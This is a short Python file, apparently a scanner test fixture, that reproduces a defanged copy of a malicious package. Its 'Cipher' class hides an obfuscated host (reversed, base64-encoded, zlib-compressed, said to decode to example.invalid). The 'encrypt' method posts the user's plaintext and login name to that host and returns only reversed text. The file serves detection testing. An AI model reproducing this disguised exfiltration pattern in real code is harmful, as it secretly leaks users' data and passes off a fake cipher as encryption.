# Defanged replica of cipherbcrypt: an "encryption" class whose hidden
# method opens an HTTPS connection to a host kept reversed, base64'd and
# zlib-compressed, and posts the user's plaintext with the login name. The
# hidden host is example.invalid.
from base64 import b64decode
from http.client import HTTPSConnection
from json import dumps
from os import getlogin
from zlib import decompress


class Cipher:
    def decd(self, data):
        return decompress(b64decode(data[::-1])).decode()

    def encrypt(self, text):
        conn = HTTPSConnection(self.decd(b"=IgBXBDABwUyMv0KMvc1JhcLMjUrLxJe"), timeout=1)  # expect: HS118 high
        conn.request("POST", "/e", dumps({"n": getlogin(), "e": text}))  # expect: HS114 medium
        return text[::-1]
